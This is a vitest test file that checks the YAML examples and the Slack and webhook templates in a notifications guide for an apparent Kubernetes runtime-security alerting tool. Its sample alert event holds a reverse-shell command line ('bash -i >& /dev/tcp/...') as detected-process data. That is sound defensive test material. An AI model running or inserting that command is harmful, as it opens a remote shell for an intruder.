import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { loadConfig } from "../src/config/load.ts";
import { loadRules } from "../src/rules/load.ts";
import { describeProblem } from "../src/schema/problem.ts";
import { eventOf } from "../test/support/events.ts";
import { notificationOf } from "../test/support/notifications.ts";
import { realCatalogue } from "../test/support/real-catalogue.ts";
import { type Medium, render } from "./template.ts";

const guide = readFileSync(new URL("../docs/notifications.md", import.meta.url), "utf8");
const blocks = [...guide.matchAll(/```(\w+)\n([\s\S]*?)```/g)].map(([, language = "", text = ""]) => ({
  language,
  text,
}));
const examples = blocks.filter(({ language }) => language === "yaml").map(({ text }) => text);

const notification = notificationOf({
  event: eventOf({
    pod: "shop/cart-1",
    priority: "Critical",
    tags: ["shell"],
    fields: { "proc.cmdline": "bash -i >& /dev/tcp/203.0.113.9/4444" },
  }),
  outcome: { undo: "kubectl label pod cart-1 -n shop suspicious-" },
});

function read(yaml: string) {
  const readFile = (path: string) => (path === "config.yaml" ? yaml : "https://example.org/t0k3n");
  return loadConfig({ path: "config.yaml", env: {}, readFile, catalogue: realCatalogue });
}

function isRules(yaml: string): boolean {
  return yaml.startsWith("- rule:");
}

describe("the guide to notifications", () => {
  it.each(examples.filter((yaml) => !isRules(yaml)))("shows configuration that loads: %s", (yaml) => {
    expect(read(yaml).problems.map(describeProblem)).toEqual([]);
  });

  it.each(examples.filter(isRules))("shows rules that load: %s", (yaml) => {
    const { problems } = loadRules([{ path: "rules.yaml", text: yaml }], realCatalogue);

    expect(problems.map(describeProblem)).toEqual([]);
  });

  it.each<[string, Medium, string]>([
    ["slack", "mrkdwn", "text"],
    ["webhook", "json", "json"],
  ])("shows what its template for %s says", (id, medium, language) => {
    const templates = examples.flatMap((yaml) => read(yaml).config?.notifiers[id]?.["template"] ?? []);

    const { text } = render(String(templates[0]), medium, notification);

    expect(templates).toHaveLength(1);
    expect(blocks.filter((block) => block.language === language).map((block) => block.text)).toEqual([text]);
  });
});
